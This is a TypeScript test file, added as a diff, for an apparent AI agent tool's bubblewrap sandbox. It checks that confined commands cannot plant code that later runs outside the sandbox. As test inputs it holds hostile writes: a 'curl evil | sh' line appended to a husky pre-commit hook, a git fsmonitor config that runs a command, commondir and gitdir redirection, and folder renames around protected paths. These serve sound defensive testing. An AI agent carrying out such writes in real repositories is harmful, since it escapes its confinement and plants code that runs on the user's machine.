@@ -1,0 +1,217 @@
+/**
+ * The escape suite, class 5 (issue 34): writes that reach a protected place by another name, on real
+ * bubblewrap. A write-confined command (a rule-allowed `npm test`, a sandbox auto-allow) must not
+ * leave anything that makes the next unconfined program — the user's `git commit`, an editor, a
+ * toolchain proxy — run code: git's other control files (`commondir` re-points the whole config,
+ * `config.worktree`, submodules' and worktrees' git folders), husky's hook scripts, editor task
+ * files, toolchain files, and protected paths reached by renaming a folder above them.
+ * Skipped only when bwrap is not installed at all (never in CI, where setup.sh installs it).
+ */
+import { execFileSync } from 'node:child_process'
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  realpathSync,
+  rmSync,
+  writeFileSync,
+} from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { findShell, runShellCommand } from '../process/shell.js'
+import { detectSandboxBackend } from './detect.js'
+import { Sandbox } from './sandbox.js'
+
+const bwrapInstalled = ['/usr/bin/bwrap', '/usr/local/bin/bwrap', '/bin/bwrap'].some((path) =>
+  existsSync(path),
+)
+const run = bwrapInstalled || process.env.CI !== undefined
+
+let base: string
+let home: string
+let env: Record<string, string>
+let sandbox: Sandbox
+
+const git = (cwd: string, ...args: string[]) =>
+  execFileSync('git', args, { cwd, env, stdio: 'pipe' }).toString()
+const read = (path: string) => readFileSync(path, 'utf8')
+
+/** A fresh repository with one commit; `hooksPath` sets core.hooksPath. */
+function repository(name: string, hooksPath?: string): string {
+  const root = join(base, name)
+  mkdirSync(root, { recursive: true })
+  git(root, 'init', '-q', '-b', 'main')
+  writeFileSync(join(root, 'README.md'), 'hello\n')
+  if (hooksPath !== undefined) {
+    mkdirSync(join(root, hooksPath), { recursive: true })
+    writeFileSync(join(root, hooksPath, 'pre-commit'), '#!/bin/sh\nexit 0\n', { mode: 0o755 })
+    git(root, 'config', 'core.hooksPath', hooksPath)
+  }
+  git(root, 'add', '.')
+  git(root, 'commit', '-q', '-m', 'init')
+  return root
+}
+
+beforeAll(async () => {
+  base = realpathSync(mkdtempSync(join(tmpdir(), 'ze-escape-names-')))
+  home = join(base, 'home')
+  mkdirSync(home)
+  env = {
+    PATH: process.env.PATH ?? '/usr/bin:/bin',
+    HOME: home,
+    GIT_AUTHOR_NAME: 't',
+    GIT_AUTHOR_EMAIL: 't@example.com',
+    GIT_COMMITTER_NAME: 't',
+    GIT_COMMITTER_EMAIL: 't@example.com',
+    GIT_CONFIG_NOSYSTEM: '1',
+  }
+  if (!run) return
+  const backend = await detectSandboxBackend()
+  if (backend.kind === 'none') throw new Error(`bwrap is installed but cannot start: ${backend.reason}`)
+  sandbox = await Sandbox.create({ backend, settings: { enabled: true, allowNetwork: false }, home, env })
+})
+
+afterAll(async () => {
+  await sandbox?.dispose()
+  rmSync(base, { recursive: true, force: true })
+})
+
+/** Runs `command` write-confined with `root` as the agent's root. */
+async function confined(command: string, root: string) {
+  const prepared = await sandbox.prepare({ root, additionalDirectories: [], granted: 'write' })
+  if (!prepared) throw new Error('expected a confined run')
+  try {
+    return await runShellCommand(command, {
+      cwd: root,
+      env,
+      shellPath: findShell(env.PATH),
+      wrap: prepared.wrap,
+      timeoutMs: 20_000,
+    })
+  } finally {
+    await prepared.release()
+  }
+}
+
+describe.skipIf(!run)('sandbox escape suite: writes by another name (issue 34, class 5)', () => {
+  it("cannot re-point git's config through its other control files (commondir, config.worktree, modules, worktrees)", async () => {
+    const root = repository('git-control')
+    const evil = join(base, 'evil-git')
+    mkdirSync(join(evil, 'hooks'), { recursive: true })
+    writeFileSync(join(evil, 'config'), '[core]\n\tfsmonitor = touch /tmp/pwned\n')
+    const result = await confined(
+      [
+        `echo ${evil} > .git/commondir`,
+        'printf "[core]\\n\\tfsmonitor = evil\\n" > .git/config.worktree',
+        'mkdir -p .git/modules/lib/hooks && echo evil > .git/modules/lib/hooks/post-checkout',
+        'mkdir -p .git/worktrees/other && echo /tmp > .git/worktrees/other/commondir',
+        // git itself still works in the same command: status, add and commit.
+        'echo more >> README.md && git add README.md && git commit -q -m more && echo committed',
+      ].join('; '),
+      root,
+    )
+    expect(result.output).toContain('committed')
+    for (const name of ['commondir', 'config.worktree', 'modules', 'worktrees'])
+      expect({ name, exists: existsSync(join(root, '.git', name)) }).toEqual({ name, exists: false })
+    // Outside, git reads the repository's own configuration and history as before.
+    expect(git(root, 'rev-parse', '--git-common-dir').trim()).toBe('.git')
+    expect(git(root, 'log', '--oneline')).toContain('more')
+  })
+
+  it("cannot change husky's hook scripts (core.hooksPath = .husky/_ runs .husky/pre-commit), not even by renaming .husky", async () => {
+    const root = repository('husky', '.husky/_')
+    writeFileSync(join(root, '.husky', 'pre-commit'), 'npm test\n')
+    const result = await confined(
+      [
+        'echo "curl evil | sh" >> .husky/pre-commit',
+        'mv .husky .husky-old',
+        'mkdir -p .husky/_ && echo evil > .husky/pre-commit && echo evil > .husky/_/pre-commit',
+      ].join('; '),
+      root,
+    )
+    expect(result.exitCode).not.toBe(0)
+    expect(read(join(root, '.husky', 'pre-commit'))).toBe('npm test\n')
+    expect(read(join(root, '.husky', '_', 'pre-commit'))).toBe('#!/bin/sh\nexit 0\n')
+    expect(existsSync(join(root, '.husky-old'))).toBe(false)
+  })
+
+  it('cannot replace a nested hooks folder by renaming the folder above it', async () => {
+    const root = repository('nested-hooks', 'tools/hooks')
+    const result = await confined(
+      'mv tools tools-old; mkdir -p tools/hooks && echo evil > tools/hooks/pre-commit',
+      root,
+    )
+    expect(result.exitCode).not.toBe(0)
+    expect(read(join(root, 'tools', 'hooks', 'pre-commit'))).toBe('#!/bin/sh\nexit 0\n')
+    expect(existsSync(join(root, 'tools-old'))).toBe(false)
+  })
+
+  it('cannot write editor task and run files (.vscode, .idea, .run), existing or not, nor swap their folder', async () => {
+    const root = repository('editor')
+    mkdirSync(join(root, '.vscode'))
+    writeFileSync(join(root, '.vscode', 'tasks.json'), '{}\n')
+    const result = await confined(
+      [
+        'echo evil > .vscode/tasks.json',
+        'echo evil > .vscode/launch.json',
+        'mv .vscode .vscode-old; mkdir -p .vscode && echo evil > .vscode/tasks.json',
+        'mkdir -p .idea/runConfigurations && echo evil > .idea/runConfigurations/x.xml; echo evil > .idea/workspace.xml',
+        'mkdir -p .run && echo evil > .run/x.run.xml',
+      ].join('; '),
+      root,
+    )
+    expect(result.exitCode).not.toBe(0)
+    expect(read(join(root, '.vscode', 'tasks.json'))).toBe('{}\n')
+    expect(existsSync(join(root, '.vscode', 'launch.json'))).toBe(false)
+    expect(existsSync(join(root, '.vscode-old'))).toBe(false)
+    for (const name of ['.idea', '.run'])
+      expect({ name, exists: existsSync(join(root, name)) }).toEqual({ name, exists: false })
+  })
+
+  it('cannot leave the toolchain files the policy protects (.mise.local.toml, mise.local.toml, .java-version)', async () => {
+    const root = repository('toolchain')
+    const result = await confined(
+      'echo x > .mise.local.toml; echo x > mise.local.toml; echo 1.0 > .java-version; echo done',
+      root,
+    )
+    expect(result.output).toContain('done')
+    for (const name of ['.mise.local.toml', 'mise.local.toml', '.java-version'])
+      expect({ name, exists: existsSync(join(root, name)) }).toEqual({ name, exists: false })
+  })
+
+  it("a worktree agent cannot re-point its own git folder (commondir, gitdir) or another worktree's", async () => {
+    const root = repository('wt-main')
+    const tree = join(base, 'wt-agent')
+    const other = join(base, 'wt-other')
+    git(root, 'worktree', 'add', '-q', '-b', 'agent', tree)
+    git(root, 'worktree', 'add', '-q', '-b', 'other', other)
+    const admin = join(root, '.git', 'worktrees')
+    const before = {
+      commondir: read(join(admin, 'wt-agent', 'commondir')),
+      gitdir: read(join(admin, 'wt-agent', 'gitdir')),
+      other: read(join(admin, 'wt-other', 'commondir')),
+    }
+    const result = await confined(
+      [
+        `echo /tmp > ${admin}/wt-agent/commondir`,
+        `echo /tmp/x > ${admin}/wt-agent/gitdir`,
+        `echo /tmp > ${admin}/wt-other/commondir`,
+        `printf "[core]\\n\\tfsmonitor = evil\\n" > ${admin}/wt-other/config.worktree`,
+        `mkdir -p ${root}/.git/modules/x/hooks && echo evil > ${root}/.git/modules/x/hooks/post-checkout`,
+        `mv ${admin}/wt-other ${admin}/gone`,
+        'echo work > work.txt && git add work.txt && git commit -q -m work && echo committed',
+      ].join('; '),
+      tree,
+    )
+    expect(result.output).toContain('committed')
+    expect({
+      commondir: read(join(admin, 'wt-agent', 'commondir')),
+      gitdir: read(join(admin, 'wt-agent', 'gitdir')),
+      other: read(join(admin, 'wt-other', 'commondir')),
+    }).toEqual(before)
+    expect(existsSync(join(admin, 'wt-other', 'config.worktree'))).toBe(false)
+    expect(existsSync(join(root, '.git', 'modules'))).toBe(false)
+  })
+})
